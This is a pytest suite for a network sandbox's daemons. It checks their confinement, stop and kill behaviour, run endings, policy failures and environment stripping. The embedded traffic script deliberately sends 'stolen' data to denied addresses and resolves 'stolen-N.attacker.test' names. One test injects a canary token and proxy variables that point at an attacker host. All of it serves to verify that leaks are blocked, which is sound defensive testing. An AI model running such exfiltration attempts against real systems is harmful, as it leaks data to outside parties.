"""The processes of a run: that each is confined, what happens when one stops or dies in the middle of traffic, how a run ends. All with the
real programs, most as root and as an ordinary user. What its audit log says is in audit_records_test.py."""

import json
import os
import pathlib
import re
import shutil
import signal
import time

import pytest

from process_runs import POLICY, USERS, state_of
from raw_exchanges import Send, connect, exchange, get

DAEMONS = ["sallyport-proxy", "sallyport-resolver", "sallyport-audit"]
PYTHON = ["/usr/bin/python3", "-IS", "-c"]

# Asks for the same thing again and again, by the proxy and caught; a line of JSON for each answer. Beside it, things that nothing permits.
TRAFFIC = r"""
import json, socket, sys, time
DENIED = [("203.0.113.66", 443), ("2001:db8:bad::66", 80), ("192.0.2.8", 853), ("10.0.0.5", 5432)]

def ask(to, head):
    sock = socket.create_connection(to, 5)
    sock.settimeout(0.7)
    sock.sendall(head)
    got, waits = b"", 0
    while True:
        try:
            piece = sock.recv(65536)
        except socket.timeout:
            waits += 1
            if waits == 1: print(json.dumps({"waiting": len(got)}), flush=True)
            if waits > 60: return "no end", got
            continue
        if not piece: return int(got.split(b" ")[1]) if got else "nothing", got
        got += piece

def try_out(number):
    to = DENIED[number % len(DENIED)]
    sock = socket.socket(socket.AF_INET6 if ":" in to[0] else socket.AF_INET)
    sock.settimeout(0.5)
    try:
        sock.connect(to); sock.sendall(b"stolen\r\n\r\n"); sock.recv(100)
    except OSError: pass
    sock.close()
    try: socket.getaddrinfo("stolen-%d.attacker.test" % number, 80)
    except OSError: pass

host, number = "allowed.test", 0
while True:
    number += 1
    ends = {}
    for way, to, target in (("explicit", ("127.0.0.1", 3128), "http://%s/1k" % host), ("caught", (host, 80), "/1k")):
        try:
            ends[way], got = ask(to, ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (target, host)).encode())
        except OSError as e:
            ends[way], got = str(e), b""
        ends["bytes"] = len(got)
    try_out(number)
    print(json.dumps(ends), flush=True)
    time.sleep(0.02)
"""


def lines(run):
    """What a run that goes on has printed, line by line."""
    out = run.output()[0]
    return [json.loads(line) for line in out[: out.rfind(b"\n") + 1].splitlines()]


def answers(run):
    return [line for line in lines(run) if "explicit" in line]


def until(what, seconds=15):
    """Waits until `what()` holds; its last value."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        value = what()
        if value:
            return value
        time.sleep(0.02)
    return what()


def under_way(sallyport, **how):
    """A run whose client gets answers."""
    run = sallyport.start([*PYTHON, TRAFFIC], policy=POLICY, options=["--quiet"], **how)
    assert until(lambda: len(answers(run)) >= 3), run.output()
    assert all(a["explicit"] == a["caught"] == 200 for a in answers(run)[:3]), answers(run)[:3]
    return run


def status(pid):
    return dict(line.split(":\t", 1) for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines() if ":\t" in line)


def namespace(pid, kind):
    return os.stat(f"/proc/{pid}/ns/{kind}").st_ino


class Traces:
    """What a run leaves on the machine while it lives, to be gone when it has ended."""

    def __init__(self, run):
        self.pid = run.pid
        programs = run.processes()
        self.daemons = {name: programs[name][0] for name in DAEMONS}
        self.processes = {pid for pids in programs.values() for pid in pids}
        outside = namespace(run.pid, "net")
        sandboxed = [pid for pid in self.processes if alive(pid) and namespace(pid, "net") != outside]
        self.spaces = {namespace(pid, "net") for pid in sandboxed}
        tasks = {found.group(1).decode() for pid in sandboxed if (found := re.search(rb"SALLYPORT_TASK=([^\0]+)", environment(pid)))}
        assert len(self.spaces) == 1 and len(tasks) == 1, programs
        self.task, = tasks

    def left(self):
        found = []
        for entry in pathlib.Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            try:
                if namespace(entry.name, "net") in self.spaces:
                    found.append(f"process {entry.name} in the task's network")
                if self.task.encode() in (entry / "cmdline").read_bytes():
                    found.append(f"process {entry.name} of the task")
            except OSError:
                pass
        found += [f"process {pid}" for pid in self.processes if alive(pid)]
        found += [line for line in pathlib.Path("/proc/self/mountinfo").read_text().splitlines() if self.task in line]
        # Other tests' groups come and go meanwhile, which a glob takes for an error.
        found += [f"{at}/{name}" for at, names, _ in os.walk("/sys/fs/cgroup") for name in names if "sallyport" in name and self.task in name]
        return found


def environment(pid):
    return pathlib.Path(f"/proc/{pid}/environ").read_bytes()


def status_or_none(pid, field):
    try:
        return status(pid)[field]
    except (OSError, KeyError):
        return None


def alive(pid):
    state = status_or_none(pid, "State")
    return state is not None and state[0] not in "ZX"


def settled(lab):
    """Nothing unpermitted has left, and nothing does in a moment more."""
    assert not lab.packets_to_unpermitted()
    assert not lab.connections("attacker") and not lab.connections("internal") and not lab.connections("elsewhere")
    assert not [name for name in lab.names_asked() if "attacker" in name]


# --- confined ---


@USERS
def test_each_daemon_is_a_process_of_its_own_without_power(sallyport, user):
    run = under_way(sallyport, user=user)
    programs = run.processes()
    pids = [programs[name][0] for name in DAEMONS]
    assert len(set(pids)) == 3 and all(len(programs[name]) == 1 for name in DAEMONS), programs
    for name, pid in zip(DAEMONS, pids):
        s = status(pid)
        assert (s["Seccomp"], s["NoNewPrivs"], int(s["CapEff"], 16), int(s["CapPrm"], 16)) == ("2", "1", 0, 0), (name, s)
        assert os.listdir(f"/proc/{pid}/root/") == [], name
        assert namespace(pid, "mnt") != namespace(run.pid, "mnt"), name
        assert os.readlink(f"/proc/{pid}/fd/0") == "/dev/null" and environment(pid).strip(b"\0") == b"GLIBC_TUNABLES=glibc.malloc.tcache_count=256"
    # The control: the command itself has none of this, so the test can see the difference.
    own = status(run.pid)
    assert own["Seccomp"] == "0" and own["NoNewPrivs"] == "0"
    assert os.listdir(f"/proc/{run.pid}/root/") and environment(run.pid)
    if user is None:
        assert int(own["CapEff"], 16) != 0
        uids = [status(pid)["Uid"].split() for pid in pids]
        assert all(len(set(ids)) == 1 for ids in uids) and len({ids[0] for ids in uids} | {"0"}) == 4, uids
    else:
        spaces = [namespace(pid, "user") for pid in pids] + [namespace(run.pid, "user")]
        assert len(set(spaces)) == 4, spaces
    run.signal(signal.SIGINT)
    assert run.wait().exit == 122


# --- stopped and killed ---


@USERS
def test_a_stopped_audit_process_stalls_responses(lab, sallyport, user):
    run = under_way(sallyport, user=user)
    audit = run.processes()["sallyport-audit"][0]
    os.kill(audit, signal.SIGSTOP)
    try:
        stalled = until(lambda: [line for line in lines(run)[-1:] if "waiting" in line], 10)
        assert stalled, lines(run)[-3:]
        before = len(answers(run))
        time.sleep(1.5)
        assert len(answers(run)) == before, "a response was completed though its record was not accepted"
    finally:
        os.kill(audit, signal.SIGCONT)
    assert until(lambda: len(answers(run)) > before + 3), lines(run)[-3:]
    after = answers(run)[before]
    assert after["explicit"] == after["caught"] == 200, after
    assert stalled[0]["waiting"] < after["bytes"], "the control: the whole is longer than what came while it was stopped"
    run.signal(signal.SIGINT)
    assert run.wait().exit == 122
    settled(lab)


@pytest.mark.parametrize("answer", [b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", b"Connection: close\r\n\r\nhello"], ids=["chunked", "close"])
def test_the_last_byte_also_waits_where_only_the_end_of_the_connection_ends_the_answer(lab, sallyport, answer):
    lab.script(80, b"HTTP/1.1 200 OK\r\n" + answer, after="close")
    code = r"""
import os, socket, time
s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(1)
print(1, flush=True)
while not os.path.exists("/workspace/go"): time.sleep(0.02)
s.sendall(b"GET http://raw.test/ HTTP/1.0\r\n\r\n"); got = b""
try:
    while True: got += s.recv(100) or exit("ended")
except TimeoutError: print(int(b"hello" in got), flush=True)
s.settimeout(10)
while piece := s.recv(100): got += piece
print(int(got.endswith(b"\r\n\r\nhello")), flush=True)
"""
    workspace = state_of(None)
    try:
        run = sallyport.start([*PYTHON, code], policy=POLICY + "  - allow: http://raw.test/**\n", options=["--quiet", "--workspace", workspace])
        assert until(lambda: lines(run)) == [1], run.output()
        audit = run.processes()["sallyport-audit"][0]
        os.kill(audit, signal.SIGSTOP)
        try:
            (workspace / "go").touch()
            assert until(lambda: len(lines(run)) > 1), run.output()
        finally:
            os.kill(audit, signal.SIGCONT)
        done = run.wait(20)
    finally:
        shutil.rmtree(workspace)
    assert [json.loads(line) for line in done.stdout.splitlines()] == [1, 0, 1], done
    settled(lab)


@USERS
@pytest.mark.parametrize("daemon", ["sallyport-proxy", "sallyport-audit"])
def test_a_killed_daemon_ends_the_run_and_opens_nothing(lab, sallyport, user, daemon):  # lifecycle-006, launcher-008
    run = under_way(sallyport, user=user)
    traces = Traces(run)
    assert traces.left(), "the control: traces can be seen"
    if daemon == "sallyport-audit":  # with a response under way that waits for its record
        os.kill(traces.daemons[daemon], signal.SIGSTOP)
        assert until(lambda: [line for line in lines(run)[-1:] if "waiting" in line], 10), lines(run)[-3:]
    os.kill(traces.daemons[daemon], signal.SIGKILL)
    begin = time.monotonic()
    done = run.wait(20)
    assert time.monotonic() - begin < 6, "what waits for the dead is not waited for"
    assert done.exit == 125 and daemon in done.stderr and "SIGKILL" in done.stderr, done
    assert done.receipt["outcome"] == "platform_failure", done.receipt
    assert until(lambda: not traces.left(), 5) is True, traces.left()
    settled(lab)


@USERS
def test_without_a_resolver_new_names_fail_and_the_rest_goes_on(lab, sallyport, user):
    code = r"""
import http.client, json, os, sys, time
def ask(connection, host):
    connection.request("GET", "http://%s/1k" % host); answer = connection.getresponse(); body = answer.read()
    return [answer.status, json.loads(body)["reason"] if answer.status != 200 else len(body)]
kept = http.client.HTTPConnection("127.0.0.1", 3128, timeout=10)
print(json.dumps(ask(kept, "allowed.test")), flush=True)
while not os.path.exists("/workspace/go"): time.sleep(0.02)
for host in ("other-allowed.test", "allowed.test", "denied.test"): print(json.dumps(ask(kept, host)), flush=True)
"""
    def told(kill):
        workspace = state_of(user)
        try:
            run = sallyport.start([*PYTHON, code], policy=POLICY, user=user, options=["--quiet", "--workspace", workspace])
            assert until(lambda: lines(run)) == [[200, 1024]], run.output()
            if kill:
                os.kill(run.processes()["sallyport-resolver"][0], signal.SIGKILL)
                assert until(lambda: b"sallyport-resolver" in run.output()[1]), run.output()
            (workspace / "go").touch()
            done = run.wait(20)
        finally:
            shutil.rmtree(workspace)
        assert done.exit == 0, done
        return [json.loads(line) for line in done.stdout.splitlines()[1:]]

    assert told(kill=True) == [[502, "resolution_failed"], [200, 1024], [403, "no_rule"]]
    assert lab.names_asked() == {"allowed.test"}
    assert told(kill=False) == [[200, 1024], [200, 1024], [403, "no_rule"]], "the control: with a resolver the name is resolved"
    settled(lab)


@USERS
def test_a_killed_resolver_opens_nothing(lab, sallyport, user):
    run = under_way(sallyport, user=user)
    traces = Traces(run)
    os.kill(traces.daemons["sallyport-resolver"], signal.SIGKILL)
    seen = len(answers(run))
    assert until(lambda: len(answers(run)) > seen + 5), run.output()
    settled(lab)
    run.signal(signal.SIGINT)
    assert run.wait(20).exit == 122
    assert until(lambda: not traces.left(), 5) is True, traces.left()


@USERS
def test_a_killed_command_takes_everything_with_it(lab, sallyport, user):
    run = under_way(sallyport, user=user)
    traces = Traces(run)
    os.kill(run.pid, signal.SIGKILL)
    assert run.process.wait(10) == -signal.SIGKILL
    assert until(lambda: not traces.left(), 10) is True, traces.left()
    settled(lab)


# --- ends ---


@USERS
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP], ids=["INT", "TERM", "HUP"])
def test_an_interrupt_ends_the_whole_tree(sallyport, user, number):
    code = "trap '' INT TERM HUP; (setsid sh -c 'sleep 301' &) ; (sleep 302 &); echo '{}'; sleep 303; sleep 304"
    run = sallyport.start(["sh", "-c", code], policy=POLICY, user=user, options=["--quiet"])
    assert until(lambda: lines(run)), run.output()
    assert until(lambda: len(run.processes().get("sleep", [])) == 3), run.processes()
    traces = Traces(run)
    run.signal(number)
    done = run.wait(20)
    assert done.exit == 122 and done.receipt["outcome"] == "cancelled", done
    assert until(lambda: not traces.left(), 5) is True, traces.left()


@USERS
def test_a_wall_budget_ends_the_run(sallyport, user):
    run = sallyport.start(["sh", "-c", "echo '{}'; sleep 300"], policy=POLICY + "budgets:\n  wall: 2s\n", user=user, options=["--quiet"])
    assert until(lambda: lines(run)), run.output()
    traces, begin = Traces(run), time.monotonic()
    done = run.wait(15)
    assert done.exit == 120 and 1 < time.monotonic() - begin < 8, done
    assert (done.receipt["outcome"], done.receipt["limit"]) == ("resource_limit", "wall"), done.receipt
    assert until(lambda: not traces.left(), 5) is True, traces.left()
    assert sallyport(["sleep", "0.5"], policy=POLICY + "budgets:\n  wall: 20s\n", user=user, options=["--quiet"]).exit == 0


ALLOCATE = "x = bytearray(int(__import__('sys').argv[1]) << 20)\nfor i in range(0, len(x), 4096): x[i] = 1\nprint('fits')"


@USERS
def test_a_memory_limit_ends_the_run(lab, sallyport, user):
    config = state_of(None)
    try:
        config.chmod(0o755)
        file = config / "appliance.yaml"
        file.write_text(lab.config.read_text() + "sandbox:\n  memory: 64MiB\n")
        file.chmod(0o644)
        small = sallyport([*PYTHON, ALLOCATE, "8"], policy=POLICY, config=file, user=user, options=["--quiet"])
        large = sallyport([*PYTHON, ALLOCATE, "400"], policy=POLICY, config=file, user=user, options=["--quiet"])
    finally:
        shutil.rmtree(config)
    assert (small.exit, small.stdout) == (0, "fits\n"), small
    assert large.stdout == "", large
    if user is None:
        assert large.exit == 120 and (large.receipt["outcome"], large.receipt["limit"]) == ("resource_limit", "memory"), large
    else:  # without a cgroup of its own the limit is each process's, and the program sees it
        assert large.exit == 1 and "MemoryError" in large.stderr, large


@USERS
def test_the_commands_own_status_comes_through(sallyport, user):
    ends = {"exit 0": 0, "exit 7": 7, "kill -TERM $$": 143, "kill -KILL $$": 137, "exit 125": 125}
    for script, expected in ends.items():
        done = sallyport(["sh", "-c", script], policy=POLICY, user=user, options=["--quiet"])
        assert done.exit == expected, done
        assert done.receipt["outcome"] == ("success" if expected == 0 else "program_error"), done.receipt
    assert sallyport(["no-such-program"], policy=POLICY, user=user, options=["--quiet"]).exit == 127


# --- policies ---


def test_without_a_policy_everything_is_denied(lab, sallyport):
    by_proxy, tunnel, caught, literal = exchange(sallyport, None, [
        Send(get("http://allowed.test/", "allowed.test")), Send(connect("allowed.test:443")), Send(get("/", "allowed.test"), to=("allowed.test", 80)),
        Send(get("/", "198.51.100.10"), to=("198.51.100.10", 80))])
    assert by_proxy.status == tunnel.status == literal.status == 403
    assert by_proxy.problem()["reason"] == "no_policy" and caught.end == "unresolved"
    assert not lab.packets()
    control, = exchange(sallyport, POLICY, [Send(get("http://allowed.test/", "allowed.test"))])
    assert control.status == 200 and lab.packets()


@USERS
@pytest.mark.parametrize("policy", [
    "policy: x/1\nrules:\n  - id: a\n    allow: everything\n", "", "policy: x/1\nrules: [", "policy: x/1\nrules:\n  - id: a\n    allow: https://h/**\n",
], ids=["wrong", "empty", "cut", "not-supported"])
def test_a_broken_policy_stops_before_the_command(lab, sallyport, user, policy):
    workspace = state_of(user)
    try:
        done = sallyport(["touch", "/workspace/ran"], policy=policy, user=user, options=["--workspace", workspace])
        assert done.exit == 125 and not (workspace / "ran").exists(), done
        assert "policy" in done.stderr
        assert done.receipt is None or done.receipt["outcome"] == "platform_failure", done.receipt
        if "[" in policy:  # the control, once
            assert sallyport(["touch", "/workspace/ran"], policy=POLICY, user=user, options=["--workspace", workspace]).exit == 0
            assert (workspace / "ran").exists()
    finally:
        shutil.rmtree(workspace)
    assert not lab.packets()


# --- parts missing, and what is inherited ---


@USERS
@pytest.mark.parametrize("missing", ["sallyport-resolver", "sallyport-proxy", "sallyport-audit", "sallyport-attach"])
def test_launcher_008_no_sandbox_without_all_parts(binaries, sallyport, user, missing):
    libexec, workspace = state_of(None), state_of(user)
    try:
        libexec.chmod(0o755)
        for name in [*DAEMONS, "sallyport-attach"]:
            if name != missing:
                shutil.copy(binaries.path(name), libexec / name)
        begin = time.monotonic()
        done = sallyport(["touch", "/workspace/ran"], policy=POLICY, user=user, options=["--libexec", libexec, "--workspace", workspace])
        assert time.monotonic() - begin < 4, "the end of a task that was never handed over is not waited for"
        assert done.exit == 125 and missing in done.stderr and not (workspace / "ran").exists(), done
        shutil.copy(binaries.path(missing), libexec / missing)
        whole = sallyport(["touch", "/workspace/ran"], policy=POLICY, user=user, options=["--libexec", libexec, "--workspace", workspace])
        assert whole.exit == 0 and (workspace / "ran").exists(), whole
    finally:
        shutil.rmtree(libexec)
        shutil.rmtree(workspace)


@USERS
def test_launcher_005_and_006_nothing_is_inherited(lab, sallyport, user):
    elsewhere = "http://203.0.113.66:80"
    env = {name: elsewhere for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY", "all_proxy", "ALL_PROXY")}
    env.update(GITHUB_TOKEN="canary-token", RES_OPTIONS="ndots:9", LOCALDOMAIN="attacker.test", NO_PROXY="*", no_proxy="*")
    done = sallyport(["sh", "-c", "env; curl -s http://allowed.test/"], policy=POLICY, user=user, env=env, options=["--quiet"])
    assert done.exit == 0 and "hello from allowed" in done.stdout, done
    assert "203.0.113.66" not in done.stdout and "canary-token" not in done.stdout and "NO_PROXY=*" not in done.stdout
    inside = dict(line.split("=", 1) for line in done.stdout.splitlines() if "=" in line)
    assert inside["HTTPS_PROXY"] == inside["https_proxy"] == "http://127.0.0.1:3128"
    settled(lab)
    assert lab.names_asked() == {"allowed.test"}
